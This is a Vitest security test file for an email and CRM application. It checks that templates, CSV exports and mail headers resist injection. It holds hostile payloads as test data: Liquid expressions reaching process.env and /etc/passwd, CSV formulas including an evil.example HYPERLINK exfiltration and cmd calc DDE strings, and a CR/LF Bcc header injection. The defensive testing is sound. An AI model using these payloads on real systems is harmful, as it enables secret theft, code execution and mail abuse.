import { randomBytes } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeSignPool, deliverDue } from '../../src/sending/delivery.ts';
import { closeRelayTransports } from '../../src/sending/transport.ts';
import { type Client, login, startTestApp, type TestOrg } from '../support/app.ts';

// Hostile text where it could turn into code: Liquid in templates and merge data (no secrets, no
// code, no files), formulas in CSV exports (made inert for spreadsheets), and CR/LF in anything that
// ends up in a mail header (no header added to the built MIME).
let t: Awaited<ReturnType<typeof startTestApp>>;
let org: TestOrg;
let admin: Client;
const RELAY_PASSWORD = `relay-pw-${randomBytes(6).toString('hex')}`;

beforeAll(async () => {
  t = await startTestApp();
  org = await t.createOrg();
  admin = await login(t.app, org.adminEmail, org.adminPassword);
  // A secret in the org's settings that a template must never reach.
  expect(
    (
      await admin.req('PUT', '/api/admin/smtp-relay', {
        host: 'smtp.relay.example',
        port: 2525,
        security: 'none',
        username: 'relay-user',
        password: RELAY_PASSWORD,
      })
    ).status,
  ).toBe(200);
  await admin.req('DELETE', '/api/admin/smtp-relay'); // mail goes to the local outbox again
});
afterAll(async () => {
  closeRelayTransports(t.deps);
  await closeSignPool(t.deps);
  await t.stop();
});

const lead = async (data: Record<string, unknown>) => {
  const r = await admin.req('POST', '/api/modules/leads/records', { data });
  expect(r.status, r.text).toBe(201);
  return r.body.id as string;
};
const deliver = async () => {
  for (let i = 0; i < 5; i++) if ((await deliverDue(t.deps, { orgId: org.orgId })).claimed === 0) break;
};

describe('template injection', () => {
  const secrets = () => [
    t.deps.config.secret as string,
    RELAY_PASSWORD,
    new URL(t.deps.config.databaseUrl ?? 'postgres://x@y/z').password || 'no-db-password',
    process.env.HOME ?? '/root',
    'root:x:0:0', // /etc/passwd
  ];
  const PAYLOADS = [
    "{{ constructor.constructor('return process')().env }}",
    '{{ lead.constructor }}{{ lead.__proto__ }}{{ lead.constructor.name }}',
    '{{ lead.email.constructor.constructor }}',
    '{% assign c = lead["constructor"] %}{{ c }}',
    "{% include '/etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% layout '/etc/passwd' %}",
    '{{ process.env.PARLEY_SECRET }}{{ env }}{{ global }}{{ config.secret }}',
    '{{ org.smtp_relay.password }}{{ org.relay }}{{ sender.password_hash }}',
    '{% for i in (1..100000000) %}{{ i }}{% endfor %}',
    '{% assign s = "xx" %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}',
  ];

  it('a template can read no secret, run no code and load no file; a clear error or plain text', async () => {
    const id = await lead({ last_name: 'Target', email: 'target@client.example' });
    const problems: string[] = [];
    for (const p of PAYLOADS) {
      for (const part of ['subject', 'htmlSource'] as const) {
        const body = { module: 'leads', recordId: id, subject: 'Hi', htmlSource: '<p>Hi</p>', [part]: p };
        const r = await admin.req('POST', '/api/templates/preview', body);
        const leaked = secrets().filter((s) => r.text.includes(s));
        if (leaked.length || r.status >= 500 || (r.status >= 300 && r.status !== 400))
          problems.push(`${part} ${p} -> ${r.status} ${leaked.join(',')} ${r.text.slice(0, 200)}`);
        if (r.status === 400 && !r.body?.error?.message) problems.push(`${p}: 400 without a message`);
      }
    }
    expect(problems).toEqual([]);
  });

  it('merge data is data: Liquid in a record is printed, not run, and HTML in it is escaped', async () => {
    const id = await lead({
      first_name: "{{ constructor.constructor('return process')().env }}",
      last_name: '<script>alert(1)</script>{% include "/etc/passwd" %}',
      email: 'data@client.example',
    });
    const r = await admin.req('POST', '/api/templates/preview', {
      module: 'leads',
      recordId: id,
      subject: '{{ lead.first_name }}',
      htmlSource: '<p>{{ lead.first_name }} {{ lead.last_name }}</p>',
    });
    expect(r.status, r.text).toBe(200);
    const out = JSON.stringify(r.body);
    expect(r.body.subject).toContain("constructor.constructor('return process')");
    expect(r.body.html).not.toContain('<script>');
    expect(r.body.html).toContain('&lt;script&gt;');
    for (const s of secrets()) expect(out).not.toContain(s);
  });
});

describe('CSV formula injection', () => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '+1+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '\r=1+1',
  ];
  const inert = (cell: string) => !/^[=+\-@\t\r]/.test(cell);

  it('no cell of any export starts a formula', async () => {
    const tag = randomBytes(3).toString('hex');
    for (const [i, f] of FORMULAS.entries())
      await lead({ last_name: f, company: f, email: `csv-${tag}-${i}@client.example` });
    const exp = await admin.req('GET', '/api/modules/leads/export');
    expect(exp.status).toBe(200);
    const rows: string[][] = parse(exp.text, { relax_column_count: true });
    const hostile = rows.flat().filter((c) => FORMULAS.some((f) => c.includes(f.trim().slice(1, 8))));
    expect(hostile.length).toBeGreaterThanOrEqual(FORMULAS.length * 2);
    expect(hostile.filter((c) => !inert(c))).toEqual([]);
    // Reports as CSV: a template named as a formula, a subject that is one.
    const tpl = await admin.req('POST', '/api/templates', {
      name: FORMULAS[0],
      module: 'leads',
      subject: FORMULAS[1],
      htmlSource: '<p>Hi</p>',
    });
    expect(tpl.status, tpl.text).toBe(201);
    const to = await lead({ last_name: 'Csv', email: `csv-${tag}@client.example` });
    const sent = await admin.req('POST', `/api/modules/leads/records/${to}/emails`, {
      templateId: tpl.body.id,
    });
    expect(sent.status, sent.text).toBe(201);
    await deliver();
    const today = new Date().toISOString().slice(0, 10);
    const reports = [
      `/api/reports/sent-status?from=${today}&to=${today}&format=csv`,
      `/api/reports/email-analytics?from=${today}&to=${today}&groupBy=template&format=csv`,
      `/api/reports/template-performance?from=${today}&to=${today}&format=csv`,
    ];
    for (const url of reports) {
      const r = await admin.req('GET', url);
      expect(r.status, `${url} ${r.text.slice(0, 300)}`).toBe(200);
      const cells: string[] = parse(r.text, { relax_column_count: true }).flat();
      expect(
        cells.filter((c) => !inert(c)),
        url,
      ).toEqual([]);
    }
  });
});

describe('CR/LF header injection', () => {
  const INJECT = '\r\nBcc: evil@evil.example\r\nX-Injected: yes';
  /** The header names of a raw message, folded lines joined. */
  const headerNames = (raw: string) =>
    raw
      .split(/\r?\n\r?\n/)[0]
      .replace(/\r?\n[ \t]+/g, ' ')
      .split(/\r?\n/)
      .map((l) => l.split(':')[0].toLowerCase());

  it('no From, Reply-To, Subject or name can add a header to the built message', async () => {
    const problems: string[] = [];
    // The sender's own name, an org address's display name, a template's From name and Reply-To.
    const me = await admin.req('PATCH', '/api/me', { name: `Eve${INJECT}` });
    expect(me.status, 'a name with a line break is refused').toBe(400);
    // One stored anyway (written before the check, or by another tool) is refused when the mail is built.
    await t.deps.db
      .updateTable('users')
      .set({ name: `Eve${INJECT}` })
      .where('id', '=', org.adminId)
      .execute();
    const newAddress = () => `team-${randomBytes(3).toString('hex')}@ourco.example`;
    const badAddr = await admin.req('POST', '/api/admin/org-addresses', {
      email: newAddress(),
      displayName: `Team${INJECT}`,
    });
    expect(badAddr.status).toBe(400);
    const addr = await admin.req('POST', '/api/admin/org-addresses', {
      email: newAddress(),
      displayName: 'Team',
    });
    expect(addr.status).toBe(201);
    await t.deps.db
      .updateTable('org_addresses')
      .set({ verified_at: new Date() })
      .where('id', '=', addr.body.id)
      .execute();
    const template = (fromName: string) =>
      admin.req('POST', '/api/templates', {
        name: `Header test ${randomBytes(3).toString('hex')}`,
        module: 'leads',
        subject: 'Hello {{ lead.first_name }} {{ lead.last_name }} {{ lead.description }}',
        htmlSource: '<p>Hi</p>',
        fromAddress: 'sales@ourco.example',
        fromName,
      });
    expect((await template(`Sales${INJECT}`)).status).toBe(400);
    const tpl = await template('Sales');
    expect(tpl.status).toBe(201);
    const tplReplyTo = await admin.req('POST', '/api/templates', {
      name: 'Header test 2',
      module: 'leads',
      subject: 'Hi',
      htmlSource: '<p>Hi</p>',
      replyTo: `reply@ourco.example${INJECT}`,
    });
    expect(tplReplyTo.status).toBe(400);
    // A multi-line field merged into the subject, and single-line ones holding CR/LF as written
    // straight to the table (an old import, another tool): the subject still gets no header.
    const target = await lead({
      first_name: 'Ann',
      last_name: 'Lee',
      description: `Note${INJECT}`,
      email: 'ann@client.example',
    });
    const written = await lead({ first_name: 'Bo', last_name: 'Bee', email: 'bo@client.example' });
    await t.deps.db
      .updateTable('records')
      .set({
        data: JSON.stringify({
          first_name: `Bo${INJECT}`,
          last_name: 'Bee\nX-Other: 1',
          description: `Note${INJECT}`,
          email: 'bo@client.example',
        }),
      })
      .where('id', '=', written)
      .execute();
    expect(
      (await admin.req('POST', '/api/modules/leads/records', { data: { email: `x@y.example${INJECT}` } }))
        .status,
    ).toBe(400);
    const sends: Record<string, unknown>[] = [
      { subject: `Hi${INJECT}`, text: 'x', from: { kind: 'user' } },
      { subject: 'Hi', text: 'x', from: { kind: 'user' }, replyTo: { kind: 'user' } },
    ];
    sends.push({ subject: 'Hi', text: 'x', from: { kind: 'org_address', orgAddressId: addr.body.id } });
    sends.push({ templateId: tpl.body.id, from: { kind: 'template' } });
    sends.push({ templateId: tpl.body.id, from: { kind: 'org_address', orgAddressId: addr.body.id } });
    const ids: string[] = [];
    for (const [to, body] of [
      ...sends.map((b) => [target, b] as const),
      ...sends.map((b) => [written, b] as const),
    ]) {
      const r = await admin.req('POST', `/api/modules/leads/records/${to}/emails`, body);
      if (r.status === 201) ids.push(r.body.id);
      else if (r.status !== 400) problems.push(`${JSON.stringify(body)} -> ${r.status} ${r.text}`);
    }
    expect(ids.length).toBeGreaterThan(0);
    await deliver();
    let built = 0;
    for (const id of ids) {
      const raw = await admin.req('GET', `/api/outbox/${id}/raw`);
      if (raw.status !== 200) {
        // Not built at all is safe too, when the builder said why.
        const m = await t.deps.db
          .selectFrom('messages')
          .select(['status', 'smtp_response'])
          .where('id', '=', id)
          .executeTakeFirstOrThrow();
        if (m.status !== 'failed' || !/line break or control character/.test(m.smtp_response ?? ''))
          problems.push(`${id}: ${raw.status} ${JSON.stringify(m)}`);
        continue;
      }
      built++;
      const names = headerNames(raw.text);
      const bad = names.filter((n) => n === 'bcc' || n.startsWith('x-injected') || n.startsWith('x-other'));
      if (bad.length) problems.push(`${id}: ${bad.join(', ')}`);
      for (const single of ['from', 'to', 'subject', 'reply-to'])
        if (names.filter((n) => n === single).length > 1) problems.push(`${id}: two ${single} headers`);
    }
    expect(problems).toEqual([]);
    expect(built).toBeGreaterThan(0);
  });
});
